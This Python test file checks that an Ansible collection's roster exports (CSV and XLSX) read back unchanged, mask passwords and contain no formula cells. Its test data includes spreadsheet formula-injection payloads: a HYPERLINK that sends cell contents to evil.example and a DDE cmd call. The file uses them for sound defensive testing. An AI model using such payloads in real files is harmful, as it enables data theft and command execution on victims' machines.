# -*- coding: utf-8 -*-
"""A roster as the vendors' templates (_template/export.py): read back to the same roster, no formula cell."""
from __future__ import absolute_import, division, print_function

__metaclass__ = type

import csv
import io
import os

import openpyxl
import pytest

from ansible_collections.mailops.mailbox.plugins.module_utils._engine.model import Secret
from ansible_collections.mailops.mailbox.plugins.module_utils._template import export_options
from ansible_collections.mailops.mailbox.plugins.module_utils._template.export import (
    FORMATS, export_roster, file_bytes, masked_rows, read_rows,
)
from ansible_collections.mailops.mailbox.plugins.module_utils._template.read import read_template
from ansible_collections.mailops.mailbox.plugins.module_utils._template.render import parse_roster
from ansible_collections.mailops.mailbox.plugins.module_utils._template.roster import Settings, build_roster

EXAMPLES = os.path.join(os.path.dirname(__file__), '..', '..', '..', '..', '..', 'examples')
HOSTILE = [u'=HYPERLINK("http://evil.example/?"&A1,"x")', u'+1+cmd|" /C calc"!A0', u'-2+3', u'@SUM(A1:A9)']
# What each format carries of a user, besides email and name.
CARRIED = {
    'm365': ('title', 'mobile'),
    'google': ('title', 'mobile', 'employee_id', 'department', 'state'),
    'exmail': ('title', 'mobile', 'employee_id', 'department', 'state'),
}


def example_roster():
    with io.open(os.path.join(EXAMPLES, 'roster.yml'), encoding='utf-8') as handle:
        return parse_roster(handle.read())


def reimport(tmp_path, export, name='export'):
    path = tmp_path / (name + '.' + export.format.kind)
    path.write_bytes(file_bytes(export))
    return path, build_roster(read_template(str(path)), Settings('example.org'))


def test_formats_are_the_choices():
    assert sorted(export_options.EXPORT_FORMATS) == sorted(FORMATS)


@pytest.mark.parametrize('fmt', sorted(FORMATS))
def test_an_export_reads_back_to_the_same_users(tmp_path, fmt):
    roster = example_roster()
    export = export_roster(roster, fmt)
    _path, result = reimport(tmp_path, export)
    assert result.problems == [] and result.source == fmt
    wanted = dict((u['email'], u) for u in roster['users'] if u['email'] not in export.left_out)
    got = dict((u['email'], u) for u in result.roster['users'])
    assert sorted(got) == sorted(wanted)
    for email, user in wanted.items():
        assert got[email]['name'] == user['name'], email
        for key in CARRIED[fmt]:
            assert got[email][key] == user[key], (email, key)
    if fmt != 'm365':  # Microsoft 365 has no department tree
        used = set(u['department'] for u in wanted.values())
        assert [d for d in result.roster['departments'] if d['name'] in used] == \
            [d for d in roster['departments'] if d['name'] in used]


def test_states_a_format_cannot_say_are_left_out():
    roster = example_roster()
    states = dict((u['email'], u['state']) for u in roster['users'])
    assert sorted(export_roster(roster, 'm365').left_out) == sorted(e for e, s in states.items() if s != 'present')
    assert export_roster(roster, 'google').left_out == [e for e, s in sorted(states.items()) if s == 'absent']


def hostile_roster():
    users = [dict(email='a%d@example.org' % i, name=u'张三', department=u'总部', title=text, employee_id=text,
                  mobile='+8613800000000', aliases=[], state='present') for i, text in enumerate(HOSTILE)]
    return dict(domain='example.org', departments=[dict(name=u'总部', parent=None)], users=users)


@pytest.mark.parametrize('fmt', ['m365', 'google'])
def test_a_csv_export_has_no_cell_a_spreadsheet_would_run(fmt):
    text = file_bytes(export_roster(hostile_roster(), fmt, {'a0@example.org': Secret('=1+1')})).decode('utf-8')
    cells = [cell for row in csv.reader(io.StringIO(text, newline='')) for cell in row]
    assert not [cell for cell in cells if cell.startswith(('=', '+', '-', '@', '\t', '\r'))]
    assert "'" + HOSTILE[0] in cells and "'+8613800000000" in cells


def test_an_xlsx_export_has_no_formula_cell_and_reads_back_verbatim(tmp_path):
    export = export_roster(hostile_roster(), 'exmail')
    path, result = reimport(tmp_path, export, 'hostile')
    workbook = openpyxl.load_workbook(str(path))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == 'f']
    assert all(cell.data_type == 's' for cell in cells if cell.value is not None)
    assert result.problems == []
    assert sorted(u['title'] for u in result.roster['users']) == sorted(HOSTILE)
    assert [u['mobile'] for u in result.roster['users']] == ['+8613800000000'] * len(HOSTILE)


def test_passwords_only_where_the_format_has_a_column_and_only_when_given(tmp_path):
    roster = example_roster()
    passwords = {'zhang.san@example.org': Secret('Initial-Passw0rd')}
    google = export_roster(roster, 'google')
    assert not google.with_passwords and set(row[google.password_column] for row in google.rows) == {'****'}
    google = export_roster(roster, 'google', passwords)
    assert google.with_passwords
    assert [row[google.password_column] for row in google.rows if 'zhang.san@example.org' in row] == \
        ['Initial-Passw0rd']
    assert 'Initial-Passw0rd' not in repr(masked_rows([google.header] + google.rows))
    # A file of another format being replaced: its password cells are hidden by their header.
    exmail = export_roster(roster, 'exmail', passwords)
    shown = masked_rows([exmail.header] + exmail.rows)
    assert 'Initial-Passw0rd' not in repr(shown) and shown[0] == exmail.header
    assert masked_rows([['Initial Password', u'邮箱'], ['secret', 'a@example.org']]) == \
        [['Initial Password', u'邮箱'], ['********', 'a@example.org']]
    _path, result = reimport(tmp_path, google)
    assert result.passwords['zhang.san@example.org'].reveal() == 'Initial-Passw0rd'
    assert sorted(row[exmail.password_column] for row in exmail.rows)[-1] == 'Initial-Passw0rd'
    assert export_roster(roster, 'm365', passwords).password_column is None


def test_rows_read_back_from_each_kind(tmp_path):
    for fmt in sorted(FORMATS):
        export = export_roster(example_roster(), fmt)
        path = tmp_path / ('x.' + export.format.kind)
        path.write_bytes(file_bytes(export, bom=True))
        assert read_rows(str(path), export.format.kind) == [export.header] + export.rows
    (tmp_path / 'broken.xlsx').write_bytes(b'PK\x03\x04 not a zip')
    assert read_rows(str(tmp_path / 'broken.xlsx'), 'xlsx') is None
